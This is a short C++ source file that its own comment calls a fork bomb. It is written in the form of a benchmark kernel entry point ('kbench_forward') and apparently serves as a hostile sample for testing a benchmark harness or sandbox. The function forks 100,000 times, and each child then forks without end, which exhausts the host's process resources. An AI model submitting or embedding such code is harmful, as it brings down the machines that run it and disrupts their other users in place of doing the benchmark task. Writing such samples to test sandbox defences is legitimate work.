// A fork bomb.
#include <signal.h>
#include <unistd.h>

#include "task.h"

extern "C" int kbench_forward(const kb_inputs*, const kb_params*, const kb_outputs*, kb_context*) {
  for (int i = 0; i < 100000; ++i) {
    const pid_t child = fork();
    if (child < 0) return 4;
    if (child == 0)
      while (true) fork();
  }
  return 1;
}
